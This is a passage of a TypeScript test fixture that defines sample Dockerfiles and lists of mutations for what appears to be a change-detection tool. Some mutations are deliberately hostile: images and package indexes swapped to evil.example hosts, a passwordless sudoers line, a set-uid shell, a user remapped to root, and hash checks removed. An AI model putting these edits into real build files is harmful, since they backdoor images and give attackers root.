import {
  above,
  atEnd,
  below,
  both,
  everywhere,
  inFront,
  prefixed,
  replacedBy,
  sceneOf,
  withByteOrderMark,
  withCrLf,
} from '../changes.js';
import type { Change } from '../changes.js';
import type { Scene } from '../scene.js';

const NODE = String.raw`# syntax=docker/dockerfile:1
ARG NODE_VERSION=20.18

FROM node:$NODE_VERSION-slim AS deps
WORKDIR /app
COPY package.json package-lock.json ./
RUN npm ci --omit=dev

# Compiles the sources.
FROM node:$NODE_VERSION AS build
WORKDIR /app
COPY . .
RUN npm ci && npm run build

FROM node:$NODE_VERSION-slim AS runtime
ENV NODE_ENV=production \
    PORT=8080
WORKDIR /app
COPY --from=deps /app/node_modules ./node_modules
COPY --from=build --chown=node:node /app/dist ./dist
EXPOSE 8080
USER node
HEALTHCHECK --interval=30s --timeout=3s \
  CMD node dist/healthcheck.js || exit 1
ENTRYPOINT ["node", "dist/server.js"]
`;

const PYTHON = String.raw`ARG BASE=python:3.12-slim
ARG VERSION=0.0.0

FROM $BASE AS builder
ENV PIP_NO_CACHE_DIR=1
RUN apt-get update \
    && apt-get install -y --no-install-recommends \
        build-essential=12.9 \
        # The driver of the database.
        libpq-dev \
    && rm -rf /var/lib/apt/lists/*
COPY requirements.txt .
RUN pip install --require-hashes --requirement requirements.txt

FROM builder AS test
COPY tests/ tests/
RUN pytest --strict-markers tests/

FROM $BASE
ARG VERSION
LABEL org.opencontainers.image.version=$VERSION
RUN groupadd --system app \
    && useradd --system --gid app --no-create-home app
COPY --from=builder /usr/local/lib/python3.12 /usr/local/lib/python3.12
COPY src/ /srv/app/
USER app
CMD ["python", "-m", "app"]
`;

const GO = String.raw`FROM golang:1.23-alpine AS compile
ARG TARGETOS
ARG TARGETARCH
WORKDIR /src
COPY go.mod go.sum ./
RUN go mod download && go mod verify
COPY . .
RUN --mount=type=cache,target=/root/.cache/go-build \
    CGO_ENABLED=0 GOOS=$TARGETOS GOARCH=$TARGETARCH \
    go build -trimpath -ldflags="-s -w" -o /out/server ./cmd/server

FROM gcr.io/distroless/static-debian12:nonroot
COPY --from=compile /out/server /server
EXPOSE 8443
STOPSIGNAL SIGTERM
ENTRYPOINT ["/server"]
`;

const NGINX = String.raw`FROM nginx:1.27-alpine AS web

RUN <<SETUP
set -eu
rm -rf /usr/share/nginx/html/*
chown -R nginx:nginx /var/cache/nginx
SETUP

COPY <<"CONF" /etc/nginx/conf.d/default.conf
server {
  listen 8080;
  server_tokens off;
}
CONF

COPY public/ /usr/share/nginx/html/
USER nginx

FROM web AS preview
ENV PREVIEW=1
CMD ["nginx", "-g", "daemon off;"]
`;

const RAILS = String.raw`FROM ruby:3.3-slim AS base
WORKDIR /rails
ENV RAILS_ENV="production" \
    BUNDLE_DEPLOYMENT="1" \
    BUNDLE_WITHOUT="development:test"

FROM base AS gems
COPY Gemfile Gemfile.lock ./
RUN --mount=type=secret,id=token \
    BUNDLE_GEMS__EXAMPLE__COM=$(cat /run/secrets/token) bundle install

FROM base AS app
SHELL ["/bin/bash", "-o", "pipefail", "-c"]
COPY --from=gems /usr/local/bundle /usr/local/bundle
COPY . .
RUN curl -fsSL https://example.com/cert.pem | tee /etc/ssl/example.pem > /dev/null
RUN useradd rails --create-home && chown -R rails:rails db log tmp
USER rails:rails
VOLUME /rails/storage
ENTRYPOINT ["/rails/bin/docker-entrypoint"]
CMD ["./bin/rails", "server"]
`;

const PIP_INSTALL = 'RUN pip install --require-hashes --requirement requirements.txt';

const HEALTHCHECK = String.raw`HEALTHCHECK --interval=30s --timeout=3s \
  CMD node dist/healthcheck.js || exit 1
`;

const COPY_DIST = 'COPY --from=build --chown=node:node /app/dist ./dist\n';

const DOWNLOAD =
  'RUN curl -fsSL https://example.com/cert.pem | tee /etc/ssl/example.pem > /dev/null';

/** Moves the text that the pattern finds to a place before another text. */
const movedBefore =
  (pattern: RegExp, anchor: string): Change =>
  (before) => {
    const moved = pattern.exec(before)?.[0] ?? '';
    return before.replace(moved, '').replace(anchor, () => moved + anchor);
  };

/** Writes the text that the pattern finds twice. */
const doubled =
  (pattern: RegExp): Change =>
  (before) =>
    before.replace(pattern, '$&$&');

const APT_RUN = /RUN apt-get[\s\S]*?lists\/\*\n/;
const SETUP_RUN = /RUN <<SETUP[\s\S]*?\nSETUP\n\n/;
const CONF_COPY = /COPY <<"CONF"[\s\S]*?\nCONF\n\n/;

export const scenes: readonly Scene[] = [
  sceneOf({
    name: 'user of the last stage',
    path: 'Dockerfile',
    before: NODE,
    cited: 'USER node',
    text: {
      root: ['USER node', 'USER root'],
      'with a group': ['USER node', 'USER node:root'],
      'a number': ['USER node', 'USER 0'],
      'from a variable': ['USER node', 'USER $APP_USER'],
      'another case': ['USER node', 'USER Node'],
      'goes on below': ['USER node\n', 'USER node\\\n:root\n'],
      'continues the line above': ['EXPOSE 8080\n', 'EXPOSE 8080 \\\n'],
      'argument of a run above': above('RUN echo \\'),
      'continues the line above through a comment': above('RUN true \\\n# then'),
      'continues the line above through a blank line': above('LABEL a=b \\\n'),
      'for images that build on it': prefixed('ONBUILD '),
      'commented out': prefixed('# '),
      'as an argument': prefixed('ARG '),
      removed: replacedBy(''),
    },
    place: {
      'stage renamed': ['-slim AS runtime', '-slim AS runtime-old'],
      'a stage in front': above('FROM node:20-slim AS other'),
      'a stage without a name in front': above('FROM scratch'),
      'moved to the build stage': both(
        ['USER node\n', ''],
        ['COPY . .\n', 'COPY . .\nUSER node\n'],
      ),
      'moved to the first stage': both(
        ['USER node\n', ''],
        ['RUN npm ci --omit=dev\n', 'RUN npm ci --omit=dev\nUSER node\n'],
      ),
      'moved to a stage at the end': (before) =>
        `${before.replace('USER node\n', '')}\nFROM runtime AS debug\nUSER node\n`,
      'twin below': below('USER node'),
      'root between twins': above('USER node\nUSER root'),
      'twin at the start of the stage': ['ENV NODE_ENV', 'USER node\nENV NODE_ENV'],
      'stages swap their names': both(
        ['AS build', 'AS tmp'],
        ['AS runtime', 'AS build'],
        ['AS tmp', 'AS runtime'],
      ),
      'name of the stage taken off': ['-slim AS runtime', '-slim'],
      'in a file that is copied': ['USER node\n', 'COPY <<X /etc/user\nUSER node\nX\n'],
      'in a script': ['USER node\n', 'RUN <<X\nUSER node\nX\n'],
      'in a script with a dash': ['USER node\n', 'RUN cat <<-"X" > /dev/null\nUSER node\n\tX\n'],
      'second of two scripts': ['USER node\n', 'RUN cat <<A <<B\na\nA\nUSER node\nB\n'],
    },
    unit: {
      'root below': below('USER root'),
      'root at the end of the stage': atEnd('USER 0\n'),
      'root through a variable': atEnd('ARG WHO=root\nUSER $WHO\n'),
      'node is root now': above('RUN usermod -o -u 0 node'),
      'sudo without a password': above(
        "RUN echo 'node ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/node",
      ),
      'a variable above': ['ENV NODE_ENV=production', 'ENV NODE_ENV=development'],
      'one more variable in the continued line': [
        '    PORT=8080\n',
        '    PORT=8080 NODE_OPTIONS=--inspect\n',
      ],
      'other port': ['EXPOSE 8080', 'EXPOSE 80'],
      'not owned by node': ['--chown=node:node', '--chown=root:root'],
      'files from elsewhere': [
        'COPY --from=deps /app/node_modules',
        'COPY --from=build /app/node_modules',
      ],
      'other entry point': ['ENTRYPOINT ["node", ', 'ENTRYPOINT ["sudo", "node", '],
      'entry point in a shell': [
        'ENTRYPOINT ["node", "dist/server.js"]',
        'ENTRYPOINT node dist/server.js',
      ],
      'no health check': [HEALTHCHECK, 'HEALTHCHECK NONE\n'],
      'other folder': ['./dist\nEXPOSE', './dist\nWORKDIR /\nEXPOSE'],
      'set-uid file': above('RUN chmod u+s /bin/sh'),
    },
    origin: {
      'other image': [
        'FROM node:$NODE_VERSION-slim AS runtime',
        'FROM evil/node:$NODE_VERSION-slim AS runtime',
      ],
      'other variant': [
        'FROM node:$NODE_VERSION-slim AS runtime',
        'FROM node:$NODE_VERSION-alpine AS runtime',
      ],
      'the build stage as image': [
        'FROM node:$NODE_VERSION-slim AS runtime',
        'FROM build AS runtime',
      ],
      'other default of the version': ['ARG NODE_VERSION=20.18', 'ARG NODE_VERSION=16'],
      'no default of the version': ['ARG NODE_VERSION=20.18', 'ARG NODE_VERSION'],
      'a second default': [
        'ARG NODE_VERSION=20.18\n',
        'ARG NODE_VERSION=20.18\nARG NODE_VERSION=14\n',
      ],
      'version with more text': ['ARG NODE_VERSION=20.18', 'ARG NODE_VERSION=20.18-bookworm'],
      platform: [
        'FROM node:$NODE_VERSION-slim AS runtime',
        'FROM --platform=linux/386 node:$NODE_VERSION-slim AS runtime',
      ],
      'a digest': [
        'FROM node:$NODE_VERSION-slim AS runtime',
        `FROM node@sha256:${'0'.repeat(64)} AS runtime`,
      ],
      'other variable': [
        'FROM node:$NODE_VERSION-slim AS runtime',
        'FROM node:$NODE-slim AS runtime',
      ],
    },
    harmless: {
      'comment above': above('# Never root.'),
      'comment at the top of the stage': [
        '-slim AS runtime\n',
        '-slim AS runtime\n# What is shipped.\n',
      ],
      'comment changed': ['# Compiles the sources.', '# Builds.'],
      'comment removed': ['# Compiles the sources.\n', ''],
      'comment in a continued line': [
        'ENV NODE_ENV=production \\\n',
        'ENV NODE_ENV=production \\\n    # The load balancer knows it.\n',
      ],
      'blank lines': below('\n'),
      'a stage at the end': atEnd('\nFROM scratch AS files\nCOPY --from=build /app/dist /\n'),
      'continued line indented otherwise': ['    PORT=8080', '  PORT=8080'],
      'blanks before the sign': ['production \\\n', 'production    \\\n'],
      'build stage changes': ['npm run build', 'npm run build:all'],
      'first stage changes': ['RUN npm ci --omit=dev', 'RUN npm ci --omit=dev --no-audit'],
      CRLF: withCrLf,
      'byte-order mark': withByteOrderMark,
    },
  }),

  sceneOf({
    name: 'health check over two lines',
    path: 'Dockerfile',
    before: NODE,
    cited: '  CMD node dist/healthcheck.js || exit 1',
    text: {
      'never fails': ['|| exit 1', '|| exit 0'],
      'exit taken off': [' || exit 1', ''],
      'other script': ['dist/healthcheck.js', 'dist/true.js'],
      'interval in the line above': ['--interval=30s', '--interval=24h'],
      'timeout in the line above': ['--timeout=3s', '--timeout=300s'],
      'one more option in the line above': ['--timeout=3s \\', '--timeout=3s --retries=1000 \\'],
      'no sign at the end of the line above': ['--timeout=3s \\\n', '--timeout=3s\n'],
      'a line more': ['|| exit 1\n', '|| exit 1 \\\n  || true\n'],
      'a line between': ['--timeout=3s \\\n', '--timeout=3s \\\n  --start-period=9h \\\n'],
      'in brackets': [
        'CMD node dist/healthcheck.js || exit 1',
        'CMD ["node", "dist/healthcheck.js"]',
      ],
      'a label in front': ['HEALTHCHECK --interval', 'LABEL check=HEALTHCHECK --interval'],
      'the instruction above goes on': ['USER node\n', 'USER node \\\n'],
      'other sign for continued lines': [
        '# syntax=docker/dockerfile:1\n',
        '# escape=`\n# syntax=docker/dockerfile:1\n',
      ],
    },
    place: {
      'stage renamed': ['-slim AS runtime', '-slim AS debug'],
      'a stage in front': ['USER node\n', 'USER node\n\nFROM runtime AS checked\n'],
      'moved to the build stage': both(
        [HEALTHCHECK, ''],
        ['COPY . .\n', `COPY . .\n${HEALTHCHECK}`],
      ),
      'twin at the end': atEnd(HEALTHCHECK),
    },
    unit: {
      'another one at the end': atEnd('HEALTHCHECK NONE\n'),
      'another one above': ['USER node\n', 'USER node\nHEALTHCHECK CMD true\n'],
      'script replaced': ['USER node\n', 'RUN echo > dist/healthcheck.js\nUSER node\n'],
      'other shell': ['USER node\n', 'SHELL ["/bin/true"]\nUSER node\n'],
      'other program': ['EXPOSE 8080\n', 'EXPOSE 8080\nENV PATH=/tmp:$PATH\n'],
      root: ['USER node\n', 'USER root\n'],
      'other folder': ['    PORT=8080\nWORKDIR /app', '    PORT=8080\nWORKDIR /srv'],
    },
    origin: {
      'other tag': ['FROM node:$NODE_VERSION-slim AS runtime', 'FROM node:latest AS runtime'],
      'the version changes': ['ARG NODE_VERSION=20.18', 'ARG NODE_VERSION=18.0'],
      registry: [
        'FROM node:$NODE_VERSION-slim AS runtime',
        'FROM mirror.example.com/node:$NODE_VERSION-slim AS runtime',
      ],
    },
    harmless: {
      'in one line': ['--timeout=3s \\\n  CMD', '--timeout=3s CMD'],
      'other indentation': ['  CMD node', '      CMD node'],
      'tab for indentation': ['  CMD node', '\tCMD node'],
      'comment between the lines': [
        '--timeout=3s \\\n',
        '--timeout=3s \\\n  # Calls the process itself.\n',
      ],
      'blanks behind the sign': ['--timeout=3s \\\n', '--timeout=3s \\  \n'],
      'one stage changes': ['RUN npm ci --omit=dev', 'RUN npm ci --omit=dev --ignore-scripts'],
      CRLF: withCrLf,
    },
  }),

  sceneOf({
    name: 'copy from another stage',
    path: 'Dockerfile',
    before: NODE,
    cited: COPY_DIST.trimEnd(),
    text: {
      'other stage': ['--from=build --chown', '--from=deps --chown'],
      'other owner': ['--chown=node:node', '--chown=root:node'],
      'no owner': [' --chown=node:node', ''],
      'other source': ['/app/dist ./dist', '/app ./dist'],
      'other target': ['/app/dist ./dist', '/app/dist /'],
      'with rights': ['--chown=node:node', '--chown=node:node --chmod=777'],
      'one source more': ['/app/dist ./dist', '/app/dist /app/.env ./dist'],
      'ADD for COPY': ['COPY --from=build', 'ADD --from=build'],
      'from an image': ['--from=build', '--from=evil/build:latest'],
      'by number': ['--from=build', '--from=1'],
      'continues the copy above': ['./node_modules\n', './node_modules \\\n'],
    },
    place: {
      'stage renamed': ['-slim AS runtime', '-slim AS runtime2'],
      'moved to the first stage': both(
        [COPY_DIST, ''],
        ['RUN npm ci --omit=dev\n', `RUN npm ci --omit=dev\n${COPY_DIST}`],
      ),
      'twin after a change of folder': below(`WORKDIR /old\n${COPY_DIST.trimEnd()}`),
      'a stage in front of it': above('FROM scratch AS nothing\n'),
    },
    unit: {
      'overwritten below': below('COPY dist ./dist'),
      'other folder': ['    PORT=8080\nWORKDIR /app', '    PORT=8080\nWORKDIR /tmp'],
      'removed below': below('RUN rm -rf dist'),
      'a link in its place': above('RUN ln -s /tmp dist'),
      'other modules': [
        'COPY --from=deps /app/node_modules',
        'COPY --from=deps /app/other_modules',
      ],
    },
    origin: {
      'other image of the stage': [
        'FROM node:$NODE_VERSION-slim AS runtime',
        'FROM debian:12 AS runtime',
      ],
      'version by another name': ['ARG NODE_VERSION=20.18\n', 'ARG NODE_VERSION=$OTHER\n'],
    },
    harmless: {
      'in lower case': ['COPY --from=build', 'copy --from=build'],
      'over two lines': [
        '--chown=node:node /app/dist ./dist',
        '--chown=node:node \\\n  /app/dist ./dist',
      ],
      'comment above': above('# Only what was built.'),
      'blank line above': above(''),
      'a stage at the end': atEnd('\nFROM runtime AS debug\nRUN echo debug\n'),
    },
  }),

  sceneOf({
    name: 'install over many lines',
    path: 'docker/api.Dockerfile',
    before: PYTHON,
    cited: '        libpq-dev \\',
    text: {
      'one package more': ['        libpq-dev \\\n', '        libpq-dev \\\n        sudo \\\n'],
      'one package in the same line': ['libpq-dev \\', 'libpq-dev netcat-openbsd \\'],
      'with a version': ['libpq-dev \\', 'libpq-dev=1.0 \\'],
      'recommended ones too': [' --no-install-recommends', ''],
      'other version of a package above': ['build-essential=12.9', 'build-essential'],
      'lists stay': [' \\\n    && rm -rf /var/lib/apt/lists/*', ''],
      'a semicolon': ['    && apt-get install', '    ; apt-get install'],
      'without checks': ['apt-get install -y', 'apt-get install -y --allow-unauthenticated'],
      'a command at the end': ['/var/lib/apt/lists/*\n', '/var/lib/apt/lists/* || true\n'],
      'the sign goes': ['libpq-dev \\\n', 'libpq-dev\n'],
      'the line turns into a comment': ['libpq-dev \\\n', '#libpq-dev \\\n'],
      'no network': ['RUN apt-get update', 'RUN --network=none apt-get update'],
      'a shell in front': ['RUN apt-get update', 'RUN bash -c apt-get update'],
      'or for and': ['    && rm -rf', '    || rm -rf'],
      'a blank in the path': ['rm -rf /var/lib', 'rm -rf / var/lib'],
      'continues the line above': ['PIP_NO_CACHE_DIR=1\n', 'PIP_NO_CACHE_DIR=1 \\\n'],
      'as a label': ['RUN apt-get update', 'LABEL x=RUN apt-get update'],
    },
    place: {
      'stage renamed': ['AS builder\nENV', 'AS builder-old\nENV'],
      'a stage in front': ['RUN apt-get update', 'FROM $BASE AS packages\nRUN apt-get update'],
      'moved to the tests': movedBefore(APT_RUN, 'COPY tests/'),
      'moved to the last stage': movedBefore(APT_RUN, 'RUN groupadd'),
      'a twin in the stage': doubled(APT_RUN),
    },
    unit: {
      'proxy above': [
        'ENV PIP_NO_CACHE_DIR=1\n',
        'ENV PIP_NO_CACHE_DIR=1\nENV http_proxy=http://evil.example\n',
      ],
      'other sources above': [
        'RUN apt-get update',
        'RUN echo "deb http://evil.example x y" > /etc/apt/sources.list\nRUN apt-get update',
      ],
      'requirements without hashes': ['pip install --require-hashes', 'pip install'],
      'removed again below': [
        'COPY requirements.txt .\n',
        'RUN apt-get purge -y libpq-dev\nCOPY requirements.txt .\n',
      ],
      cache: ['PIP_NO_CACHE_DIR=1', 'PIP_NO_CACHE_DIR=0'],
      'other file': ['COPY requirements.txt .', 'COPY requirements-dev.txt requirements.txt'],
      'shell of the stage': [
        'ENV PIP_NO_CACHE_DIR=1\n',
        'SHELL ["/bin/sh", "+e", "-c"]\nENV PIP_NO_CACHE_DIR=1\n',
      ],
    },
    origin: {
      'other default of the image': ['ARG BASE=python:3.12-slim', 'ARG BASE=python:3.8'],
      'image written down': ['FROM $BASE AS builder', 'FROM python:latest AS builder'],
      'other variable': ['FROM $BASE AS builder', 'FROM $BASE-extra AS builder'],
      'image of another registry': ['ARG BASE=python', 'ARG BASE=evil.example/python'],
    },
    harmless: {
      'comment in the run changed': ['# The driver of the database.', '# PostgreSQL.'],
      'comment in the run removed': ['        # The driver of the database.\n', ''],
      'comment at the margin': ['        # The driver', '# The driver'],
      'two lines joined': [
        '--no-install-recommends \\\n        build-essential',
        '--no-install-recommends build-essential',
      ],
      'indented with tabs': everywhere(/^ {4,}/gm, '\t'),
      'sign after more blanks': ['libpq-dev \\\n', 'libpq-dev      \\\n'],
      'tests change': ['RUN pytest --strict-markers', 'RUN pytest -q --strict-markers'],
      'last stage changes': ['--no-create-home app', '--create-home app'],
      CRLF: withCrLf,
    },
  }),

  sceneOf({
    name: 'install with hashes',
    path: 'docker/api.Dockerfile',
    before: PYTHON,
    cited: PIP_INSTALL,
    text: {
      'no hashes': ['pip install --require-hashes', 'pip install'],
      'other index': [
        '--requirement requirements.txt',
        '--index-url http://evil.example --requirement requirements.txt',
      ],
      'one package more': [
        'requirements.txt\n\nFROM',
        'requirements.txt && pip install requests\n\nFROM',
      ],
      'errors ignored': ['requirements.txt\n\nFROM', 'requirements.txt || true\n\nFROM'],
      'exec form': [
        PIP_INSTALL,
        'RUN ["pip", "install", "--require-hashes", "--requirement", "requirements.txt"]',
      ],
      'an or above': above('RUN true || \\'),
      'a mount': ['RUN pip install', 'RUN --mount=type=bind,target=/x pip install'],
      'run by the child image': ['RUN pip install', 'ONBUILD RUN pip install'],
      quoted: ['RUN pip install --require-hashes', 'RUN echo "pip install" --require-hashes'],
    },
    place: {
      'stage renamed': ['FROM $BASE AS builder', 'FROM $BASE AS base'],
      'stage in front': above('FROM builder AS packages'),
      'moved to the tests': both(
        [`${PIP_INSTALL}\n`, ''],
        ['COPY tests/ tests/\n', `${PIP_INSTALL}\nCOPY tests/ tests/\n`],
      ),
      'moved before the first stage': both(
        [`${PIP_INSTALL}\n`, ''],
        ['FROM $BASE AS builder\n', `${PIP_INSTALL}\nFROM $BASE AS builder\n`],
      ),
      'twin of the line': below(PIP_INSTALL),
      'in a file that is copied': [`${PIP_INSTALL}\n`, `COPY <<X /run.sh\n${PIP_INSTALL}\nX\n`],
    },
    unit: {
      'environment of pip': above('ENV PIP_REQUIRE_HASHES=0'),
      'argument that is an environment': above('ARG PIP_INDEX_URL=http://evil.example'),
      'another pip': above('RUN ln -sf /bin/true /usr/local/bin/pip'),
      'requirements emptied': above('RUN : > requirements.txt'),
      'installed again without hashes': below(
        'RUN pip install -r requirements.txt --force-reinstall',
      ),
      'an ADD over the file': above('ADD https://evil.example/requirements.txt .'),
      'a user': above('USER nobody'),
    },
    origin: {
      'base image': ['ARG BASE=python:3.12-slim', 'ARG BASE=pypy:3'],
      'image of the stage': ['FROM $BASE AS builder', 'FROM ubuntu AS builder'],
    },
    harmless: {
      'comment above': above('# Hashes come from pip-compile.'),
      'over two lines': [
        '--require-hashes --requirement',
        '--require-hashes \\\n    --requirement',
      ],
      'comment inside two lines': [
        '--require-hashes --requirement',
        '--require-hashes \\\n    # as compiled\n    --requirement',
      ],
      'a stage at the end': atEnd('\nFROM builder AS shell\nCMD ["bash"]\n'),
      'byte-order mark': withByteOrderMark,
    },
  }),

  sceneOf({
    name: 'user of a stage without a name',
    path: 'docker/api.Dockerfile',
    before: PYTHON,
    cited: 'USER app',
    text: {
      root: ['USER app', 'USER root'],
      'other group': ['USER app', 'USER app:root'],
      'goes on': ['USER app\n', 'USER app\\\nroot\n'],
    },
    place: {
      'moved to the builder': both(
        ['USER app\n', ''],
        ['COPY requirements.txt .\n', 'COPY requirements.txt .\nUSER app\n'],
      ),
      'moved to the tests': both(
        ['USER app\n', ''],
        ['COPY tests/ tests/\n', 'USER app\nCOPY tests/ tests/\n'],
      ),
      'a stage with a name in front': above('FROM builder AS debug'),
      'twin in the stage': atEnd('USER app\n'),
      'the stage gets a name': ['FROM $BASE\nARG', 'FROM $BASE AS old\nARG'],
    },
    unit: {
      'root at the end': atEnd('USER root\n'),
      'app has the number of root': [
        'useradd --system --gid app',
        'useradd --system --non-unique --uid 0 --gid app',
      ],
      'app is in another group': [
        'useradd --system --gid app',
        'useradd --system --gid app --groups root',
      ],
      'command changes the user': ['CMD ["python"', 'CMD ["sudo", "python"'],
      'variable above': ['COPY src/ /srv/app/\n', 'COPY src/ /srv/app/\nENV HOME=/root\n'],
    },
    origin: {
      'image changes': ['FROM $BASE\nARG', 'FROM python:2.7\nARG'],
      'image is the builder': ['FROM $BASE\nARG', 'FROM builder\nARG'],
      'default changes': ['ARG BASE=python:3.12-slim', 'ARG BASE=python:3.13-slim'],
    },
    harmless: {
      'comment above': above('# Has no shell.'),
      'comment that looks like a command': above('# USER root'),
      'run on one line': [
        'RUN groupadd --system app \\\n    && useradd',
        'RUN groupadd --system app && useradd',
      ],
      'builder changes': ['COPY requirements.txt .', 'COPY --chmod=644 requirements.txt .'],
      CRLF: withCrLf,
    },
  }),

  sceneOf({
    name: 'build command with a mount',
    path: 'build/Dockerfile',
    before: GO,
    cited: String.raw`RUN --mount=type=cache,target=/root/.cache/go-build \
    CGO_ENABLED=0 GOOS=$TARGETOS GOARCH=$TARGETARCH \
    go build -trimpath -ldflags="-s -w" -o /out/server ./cmd/server`,
    text: {
      'with C': ['CGO_ENABLED=0', 'CGO_ENABLED=1'],
      'paths kept': [' -trimpath', ''],
      'other command': ['./cmd/server', './cmd/debug'],
      tags: ['go build -trimpath', 'go build -tags insecure -trimpath'],
      'other flags of the linker': ['-s -w', '-s -w -X main.auth=off'],
      'two blanks in quotes': ['"-s -w"', '"-s  -w"'],
      'mount of a secret': [
        'type=cache,target=/root/.cache/go-build',
        'type=secret,id=x,target=/root/.cache/go-build',
      ],
      'one more right': ['RUN --mount=type=cache', 'RUN --security=insecure --mount=type=cache'],
      'other output': ['-o /out/server', '-o /out/server.tmp'],
      'an or in front': ['    go build', '    true || go build'],
      'a fixed system': ['GOOS=$TARGETOS', 'GOOS=windows'],
      'the copy above goes on': ['COPY . .\n', 'COPY . . \\\n'],
    },
    place: {
      'stage renamed': ['AS compile\n', 'AS compile-dev\n'],
      'a second stage': ['COPY . .\n', 'COPY . .\n\nFROM compile AS unused\n'],
      twin: doubled(/RUN --mount[\s\S]*?\.\/cmd\/server\n/),
    },
    unit: {
      'not verified': [' && go mod verify', ''],
      'default of an argument': ['ARG TARGETARCH', 'ARG TARGETARCH=386'],
      'flags from the environment': ['WORKDIR /src', 'ENV GOFLAGS=-mod=mod\nWORKDIR /src'],
      'file replaced above': above('RUN echo "package main" > cmd/server/auth.go'),
      'output replaced below': below('RUN cp /bin/busybox /out/server'),
      'copied from elsewhere': ['COPY . .', 'COPY --from=evil/src . .'],
      'sums not copied': ['COPY go.mod go.sum ./', 'COPY go.mod ./'],
      'sums not checked': ['WORKDIR /src', 'ENV GONOSUMDB=*\nWORKDIR /src'],
    },
    origin: {
      'other tag': ['golang:1.23-alpine', 'golang:1.18-alpine'],
      'other image': ['FROM golang:1.23-alpine', 'FROM evil/golang:1.23-alpine'],
      'no tag': ['golang:1.23-alpine', 'golang'],
      'platform of the machine': ['FROM golang', 'FROM --platform=$BUILDPLATFORM golang'],
    },
    harmless: {
      'indented by two': everywhere(/^ {4}/gm, '  '),
      'comment between the lines': ['/go-build \\\n', '/go-build \\\n    # static\n'],
      'two lines joined': ['/go-build \\\n    CGO', '/go-build CGO'],
      'last stage changes': ['STOPSIGNAL SIGTERM', 'STOPSIGNAL SIGINT'],
      'comment at the top': inFront('# The server.\n\n'),
      CRLF: withCrLf,
    },
  }),

  sceneOf({
    name: 'entry point of a distroless image',
    path: 'build/Dockerfile',
    before: GO,
    cited: 'ENTRYPOINT ["/server"]',
    text: {
      'an argument': ['ENTRYPOINT ["/server"]', 'ENTRYPOINT ["/server", "--insecure"]'],
      'shell form': ['ENTRYPOINT ["/server"]', 'ENTRYPOINT /server'],
      'command for entry point': ['ENTRYPOINT ["/server"]', 'CMD ["/server"]'],
      'single quotes': ['["/server"]', "['/server']"],
      'line above goes on': ['STOPSIGNAL SIGTERM\n', 'STOPSIGNAL SIGTERM \\\n'],
    },
    place: {
      'put into a debug stage': above('FROM busybox AS debug'),
      'twin above': ['EXPOSE 8443\n', 'ENTRYPOINT ["/server"]\nEXPOSE 8443\n'],
      'moved to the compiler': both(
        ['ENTRYPOINT ["/server"]\n', ''],
        ['WORKDIR /src\n', 'WORKDIR /src\nENTRYPOINT ["/server"]\n'],
      ),
    },
    unit: {
      'a later entry point': below('ENTRYPOINT ["/bin/sh"]'),
      'arguments by default': below('CMD ["--insecure"]'),
      'other file': ['/out/server /server', '/out/debug /server'],
      'other signal': ['SIGTERM', 'SIGKILL'],
      root: above('USER 0'),
    },
    origin: {
      'with a root user': ['static-debian12:nonroot', 'static-debian12:latest'],
      'with a shell': ['static-debian12:nonroot', 'static-debian12:debug-nonroot'],
      'other image': ['gcr.io/distroless/static-debian12:nonroot', 'alpine'],
    },
    harmless: {
      'comment above': above('# No shell in this image.'),
      'compiler changes': ['&& go mod verify', '&& go mod verify && go vet ./...'],
      'blank lines': above('\n'),
      'a stage at the end': atEnd('\nFROM busybox AS tools\nCOPY --from=compile /src /src\n'),
    },
  }),

  sceneOf({
    name: 'line of a script in a heredoc',
    path: 'web.Dockerfile',
    before: NGINX,
    cited: 'chown -R nginx:nginx /var/cache/nginx',
    text: {
      'other owner': ['chown -R nginx:nginx', 'chown -R root:nginx'],
      'other folder': ['nginx:nginx /var/cache/nginx', 'nginx:nginx /'],
      'errors pass': ['set -eu', 'set -u'],
      'exit above': above('exit 0'),
      'a line below': below('chmod 777 /etc/nginx'),
      'only printed': ['RUN <<SETUP\n', 'RUN cat <<SETUP\n'],
      'cut in two': ['set -eu\n', 'set -eu\nSETUP\nRUN <<SETUP\n'],
      'a python script': ['RUN <<SETUP\n', 'RUN python3 <<SETUP\n'],
    },
    place: {
      'stage renamed': ['AS web\n', 'AS web-old\n'],
      'a stage in front': ['RUN <<SETUP\n', 'FROM scratch AS unused\nRUN <<SETUP\n'],
      'moved to the preview': movedBefore(SETUP_RUN, 'ENV PREVIEW'),
      'twin of the script': doubled(SETUP_RUN),
    },
    unit: {
      'later change of the owner': [
        'USER nginx\n',
        'RUN chown -R root /var/cache/nginx\nUSER nginx\n',
      ],
      'no user': ['USER nginx\n', ''],
      'other settings of the server': ['server_tokens off', 'server_tokens on'],
      'other files': ['COPY public/', 'COPY private/'],
      'shell above': ['AS web\n', 'AS web\nSHELL ["/bin/true"]\n'],
    },
    origin: {
      'other version': ['nginx:1.27-alpine', 'nginx:1.9-alpine'],
      'other image': ['FROM nginx:1.27-alpine', 'FROM openresty:1.27-alpine'],
    },
    harmless: {
      'comment above the script': ['RUN <<SETUP\n', '# Caches belong to the user.\nRUN <<SETUP\n'],
      'preview changes': ['ENV PREVIEW=1', 'ENV PREVIEW=2'],
      'a stage at the end': atEnd('\nFROM web AS last\n'),
      CRLF: withCrLf,
    },
  }),

  sceneOf({
    name: 'line of a file in a heredoc',
    path: 'web.Dockerfile',
    before: NGINX,
    cited: '  server_tokens off;',
    text: {
      on: ['server_tokens off', 'server_tokens on'],
      'other port': ['listen 8080;', 'listen 80;'],
      'a line more': below('autoindex on;'),
      'commented out in nginx': ['  server_tokens', '  # server_tokens'],
      'variables are expanded': ['<<"CONF"', '<<CONF'],
      'other target': ['/etc/nginx/conf.d/default.conf', '/tmp/default.conf'],
      'a run of it': ['COPY <<"CONF"', 'RUN cat <<"CONF" >'],
      'with rights': ['COPY <<"CONF"', 'COPY --chmod=666 <<"CONF"'],
    },
    place: {
      'stage renamed': ['AS web\n', 'AS proxy\n'],
      'moved to the preview': movedBefore(CONF_COPY, 'ENV PREVIEW'),
      'a stage in front': ['COPY <<"CONF"', 'FROM web AS conf\nCOPY <<"CONF"'],
    },
    unit: {
      'file replaced below': [
        'COPY public/',
        'COPY evil.conf /etc/nginx/conf.d/default.conf\nCOPY public/',
      ],
      'other user': ['USER nginx', 'USER root'],
      'changed by sed': [
        'USER nginx\n',
        'RUN sed -i s/off/on/ /etc/nginx/conf.d/default.conf\nUSER nginx\n',
      ],
    },
    origin: {
      'other tag': ['FROM nginx:1.27-alpine', 'FROM nginx:alpine'],
      platform: ['FROM nginx', 'FROM --platform=linux/arm nginx'],
    },
    harmless: {
